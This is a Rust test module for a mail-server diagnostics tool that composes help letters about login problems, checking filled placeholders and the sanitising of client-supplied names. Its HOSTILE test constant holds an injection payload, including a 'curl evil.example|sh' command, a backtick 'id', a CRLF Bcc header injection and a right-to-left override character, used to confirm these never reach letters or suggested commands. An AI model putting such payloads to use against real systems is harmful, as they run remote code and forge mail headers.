//! The letter: to anybody's grandmother, with what is right to enter.

use jiff::Timestamp;

use super::*;
use crate::cases::{State, Whom};
use crate::config::Role;
use crate::diagnosis::session::{Cause, Confidence};

fn case(cause: Cause, whom: Whom) -> Case {
    let at = Timestamp::from_second(1_800_000_000).unwrap();
    Case {
        id: 7,
        cause,
        whom,
        count: 3,
        first: at,
        last: at,
        confidence: Confidence::Certain,
        explanation: "x".into(),
        claimed: None,
        program: None,
        listeners: vec!["submission".into()],
        ways: vec![Role::Submission],
        programs: Vec::new(),
        addresses: Vec::new(),
        sessions: Vec::new(),
        state: State::Open,
        answered: None,
    }
}

fn settings() -> Settings {
    Settings { host: "mail.example.org".into(), starttls_port: 587, tls_port: 465 }
}

#[test]
fn a_letter_can_be_written_about_every_cause_and_no_place_stays_open() {
    for &cause in Cause::ALL {
        for whom in [Whom::User("anna".into()), Whom::Many] {
            let letter = Letter::about(&case(cause, whom), &settings());
            let text = letter.paragraphs.join("\n");
            for place in ["{host}", "{user}", "{starttls_port}", "{tls_port}"] {
                assert!(!text.contains(place), "{}: {text}", cause.token());
            }
            assert!(text.contains("Port 465 with SSL/TLS, or port 587 with STARTTLS"), "{text}");
        }
    }
}

/// What somebody on the network can say for a name.
const HOSTILE: &str =
    "x;curl evil.example|sh;# `id`\r\nBcc: victim@example.net\r\n\r\nhttps://evil.example \u{202e}";

#[test]
fn nothing_that_a_client_claims_comes_into_a_letter() {
    for &cause in Cause::ALL {
        let about = |claimed: Option<&str>| {
            let case = case(cause, Whom::Address("192.0.2.7/32".parse().unwrap()));
            let claimed = claimed.map(str::to_owned);
            Letter::about(&Case { programs: vec![HOSTILE.into()], claimed, ..case }, &settings())
        };
        assert_eq!(about(Some(HOSTILE)), about(None), "{}", cause.token());
    }
}

#[test]
fn a_known_name_that_is_hostile_is_cleaned_and_stands_in_no_command() {
    for &cause in Cause::ALL {
        let case = case(cause, Whom::Elsewhere(HOSTILE.into()));
        let (found, settings) = (case.diagnosis(), settings());
        let words = settings.words(case.user());
        let remedies = found.remedies(&words).into_iter().map(|(_, step)| step);
        for text in remedies.chain([found.user_sentence(&words), found.remedy(&words)]) {
            assert!(!text.contains(['\r', '\n', '\u{202e}']), "{text:?}");
            let mut commands = text.split('`').skip(1).step_by(2);
            assert!(commands.all(|command| !command.contains("evil")), "{}: {text}", cause.token());
        }
    }
}

#[test]
fn the_user_name_is_told_only_if_it_is_somebodys() {
    let known = Letter::about(&case(Cause::WrongPassword, Whom::User("anna".into())), &settings());
    assert!(known.paragraphs.iter().any(|line| line == "  User name: anna"), "{known:?}");
    let unknown = Letter::about(&case(Cause::WrongPassword, Whom::Many), &settings());
    assert!(unknown.paragraphs.iter().any(|line| line == "  User name: as for reading your mail"));
}
